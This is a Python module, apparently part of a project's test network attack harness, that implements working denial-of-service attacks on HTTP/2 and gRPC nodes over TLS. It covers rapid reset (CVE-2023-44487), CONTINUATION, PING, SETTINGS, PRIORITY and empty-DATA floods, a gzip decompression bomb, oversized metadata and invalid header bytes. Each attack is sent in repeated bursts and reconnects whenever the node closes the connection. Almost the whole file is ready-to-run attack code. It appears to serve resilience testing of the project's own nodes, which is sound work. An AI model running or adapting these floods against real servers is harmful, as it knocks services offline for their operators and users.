"""Attacks in the frames of HTTP/2 and in gRPC's messages, over TLS that is in order. No credential is needed."""

import gzip
import itertools
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from functools import partial
from typing import Final

import trio

from alatau.types.endpoint import Endpoint, parse_endpoint
from alatau_devnet.attack.frames import (
    ACK,
    END_HEADERS,
    END_STREAM,
    PREFACE,
    Kind,
    call_headers,
    frame,
    grpc_message,
    rst_stream,
    take_frames,
)
from alatau_devnet.attack.scene import Scene
from alatau_devnet.attack.tls import GONE, Outcome, connect_tls

STATUS_PATH: Final = "/alatau.api.v1.NodeService/GetStatus"
"""A call that costs a node little, so that what is measured is the transport."""

_PAUSE_S: Final = 0.05
"""Before a connection that was closed is opened again."""
_BURST: Final = 200
"""Frames or streams written at once."""
_BOMB_BYTES: Final = 8 * 1024 * 1024 - 64
"""Below the limit of a message, when expanded; gzip makes about 8 KB of it."""
_BOMBS_PER_BURST: Final = 16

Run = Callable[[Endpoint, float], Awaitable[Outcome]]
Bursts = Callable[[], Iterator[bytes]]
"""What one connection is sent, piece by piece."""


class Http2Connection:
    """A connection past preface and settings."""

    def __init__(self, stream: trio.SSLStream[trio.SocketStream], outcome: Outcome, *, acknowledges: bool) -> None:
        self._stream = stream
        self._outcome = outcome
        self._acknowledges = acknowledges
        self._sending = trio.Lock()

    async def send(self, data: bytes) -> None:
        """Write frames."""
        async with self._sending:
            await self._stream.send_all(data)

    async def drain(self) -> None:
        """Acknowledge settings, count what says no, throw away the rest; ends with the connection."""
        buffer = bytearray()
        while data := await self._stream.receive_some(65_536):
            buffer += data
            for taken in take_frames(buffer):
                if taken.kind == Kind.SETTINGS and not taken.flags & ACK and self._acknowledges:
                    await self.send(frame(Kind.SETTINGS, flags=ACK))
                elif taken.kind in (Kind.GOAWAY, Kind.RST_STREAM):
                    self._outcome.events[f"got {Kind(taken.kind).name}"] += 1
        raise trio.BrokenResourceError


@asynccontextmanager
async def open_http2(
    target: Endpoint, outcome: Outcome, *, acknowledges: bool = True
) -> AsyncIterator[Http2Connection]:
    """A connection whose incoming frames are counted in the background. Raises one of ``GONE`` when it ends.

    Bounds that a server announces bind a client only once it ``acknowledges`` them (RFC 9113, 6.5.3).
    """
    stream = await connect_tls(target)
    outcome.events["connections"] += 1
    connection = Http2Connection(stream, outcome, acknowledges=acknowledges)
    try:
        await connection.send(PREFACE + frame(Kind.SETTINGS))
        async with trio.open_nursery() as nursery:
            nursery.start_soon(connection.drain)
            yield connection
            nursery.cancel_scope.cancel()
    finally:
        await trio.aclose_forcefully(stream)


async def _flood(
    target: Endpoint,
    seconds: float,
    outcome: Outcome,
    event: str,
    per_burst: int,
    bursts: Bursts,
    *,
    acknowledges: bool = True,
) -> None:
    """Write burst after burst over one connection, and over the next one when that is closed."""
    with trio.move_on_after(seconds):
        while True:
            try:
                async with open_http2(target, outcome, acknowledges=acknowledges) as connection:
                    for burst in bursts():
                        await connection.send(burst)
                        outcome.events[event] += per_burst
            except* GONE:
                outcome.events["ended by node"] += 1
            await trio.sleep(_PAUSE_S)


def _streams(number: int) -> Iterator[range]:
    """Portions of ``number`` client stream ids, until they are used up (RFC 9113, 5.1.1)."""
    for first in range(1, 2**31 - 2 * number, 2 * number):
        yield range(first, first + 2 * number, 2)


async def rapid_reset(
    target: Endpoint, seconds: float, path: str = STATUS_PATH, *, acknowledges: bool = True
) -> Outcome:
    """Open calls and reset them in the same breath (CVE-2023-44487), as fast as a connection takes them."""
    block, body, outcome = call_headers(path), grpc_message(b""), Outcome("rapid reset")

    def bursts() -> Iterator[bytes]:
        for ids in _streams(_BURST):
            yield b"".join(
                frame(Kind.HEADERS, block, flags=END_HEADERS, stream=id_)
                + frame(Kind.DATA, body, flags=END_STREAM, stream=id_)
                + rst_stream(id_)
                for id_ in ids
            )

    await _flood(target, seconds, outcome, "resets", _BURST, bursts, acknowledges=acknowledges)
    return outcome


async def gzip_bomb(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """Messages of 8 KB that expand to 8 MB each."""
    block = call_headers(path, [(b"grpc-encoding", b"gzip")])
    body, outcome = grpc_message(gzip.compress(bytes(_BOMB_BYTES)), compressed=True), Outcome("gzip bomb")

    def bursts() -> Iterator[bytes]:
        for ids in _streams(_BOMBS_PER_BURST):
            yield b"".join(
                frame(Kind.HEADERS, block, flags=END_HEADERS, stream=id_)
                + frame(Kind.DATA, body, flags=END_STREAM, stream=id_)
                for id_ in ids
            )

    await _flood(target, seconds, outcome, "bombs", _BOMBS_PER_BURST, bursts)
    return outcome


async def header_garbage(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """Calls whose header names are no UTF-8: how much may a client make a node write into its log?"""
    block = call_headers(path, [(b"\xff\xfe-name", b"\x80\x81")])
    body, outcome = grpc_message(b""), Outcome("header garbage")

    def bursts() -> Iterator[bytes]:
        for ids in _streams(16):
            yield b"".join(
                frame(Kind.HEADERS, block, flags=END_HEADERS, stream=id_)
                + frame(Kind.DATA, body, flags=END_STREAM, stream=id_)
                for id_ in ids
            )

    await _flood(target, seconds, outcome, "calls", 16, bursts)
    return outcome


async def metadata_flood(
    target: Endpoint, seconds: float, path: str = STATUS_PATH, *, acknowledges: bool = True
) -> Outcome:
    """Calls with 1 MB of metadata each, in frames of 16 kB."""
    outcome = Outcome("metadata over the limit")
    field = call_headers(path, [(f"x-{i}".encode(), bytes(97 for _ in range(15_000))) for i in range(70)])
    pieces = [field[at : at + 16_384] for at in range(0, len(field), 16_384)]

    def bursts() -> Iterator[bytes]:
        for (id_,) in _streams(1):
            first = frame(Kind.HEADERS, pieces[0], stream=id_)
            middle = b"".join(frame(Kind.CONTINUATION, piece, stream=id_) for piece in pieces[1:-1])
            yield first + middle + frame(Kind.CONTINUATION, pieces[-1], flags=END_HEADERS, stream=id_)

    await _flood(target, seconds, outcome, "megabytes", 1, bursts, acknowledges=acknowledges)
    return outcome


async def continuation_flood(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """Header blocks that never end: CONTINUATION after CONTINUATION (CVE-2024-27316)."""
    outcome = Outcome("CONTINUATION flood")
    piece = frame(Kind.CONTINUATION, call_headers(path)[:0] + b"\x00\x01x\x01y", stream=1)

    def bursts() -> Iterator[bytes]:
        yield frame(Kind.HEADERS, call_headers(path), stream=1)
        yield from itertools.repeat(piece * _BURST)

    await _flood(target, seconds, outcome, "frames", _BURST, bursts)
    return outcome


async def ping_flood(target: Endpoint, seconds: float) -> Outcome:
    """PING frames without pause (CVE-2019-9512)."""
    outcome, burst = Outcome("PING flood"), frame(Kind.PING, bytes(8)) * _BURST
    await _flood(target, seconds, outcome, "pings", _BURST, lambda: itertools.repeat(burst))
    return outcome


async def settings_flood(target: Endpoint, seconds: float) -> Outcome:
    """SETTINGS frames without pause, each of which asks for an acknowledgement (CVE-2019-9515)."""
    outcome, burst = Outcome("SETTINGS flood"), frame(Kind.SETTINGS) * _BURST
    await _flood(target, seconds, outcome, "settings", _BURST, lambda: itertools.repeat(burst))
    return outcome


async def empty_frames(target: Endpoint, seconds: float, path: str = STATUS_PATH) -> Outcome:
    """DATA frames of no bytes without pause on one open call (CVE-2019-9518)."""
    outcome, burst = Outcome("empty DATA frames"), frame(Kind.DATA, stream=1) * _BURST

    def bursts() -> Iterator[bytes]:
        yield frame(Kind.HEADERS, call_headers(path), flags=END_HEADERS, stream=1)
        yield from itertools.repeat(burst)

    await _flood(target, seconds, outcome, "frames", _BURST, bursts)
    return outcome


async def priority_flood(target: Endpoint, seconds: float) -> Outcome:
    """PRIORITY frames for ever other streams (CVE-2019-9513)."""
    outcome = Outcome("PRIORITY flood")

    def bursts() -> Iterator[bytes]:
        for ids in _streams(_BURST):
            yield b"".join(frame(Kind.PRIORITY, bytes(5), stream=id_) for id_ in ids)

    await _flood(target, seconds, outcome, "frames", _BURST, bursts)
    return outcome


rapid_reset_unacknowledged = partial(rapid_reset, acknowledges=False)
"""The same by a client that never acknowledges the bounds it is told."""
metadata_flood_unacknowledged = partial(metadata_flood, acknowledges=False)


def at_clients_port(attack: Run) -> Callable[[Scene, float], Awaitable[Outcome]]:
    """The attack on the victim's port for clients."""

    async def run(scene: Scene, seconds: float) -> Outcome:
        return await attack(parse_endpoint(scene.victim.rpc), seconds)

    return run
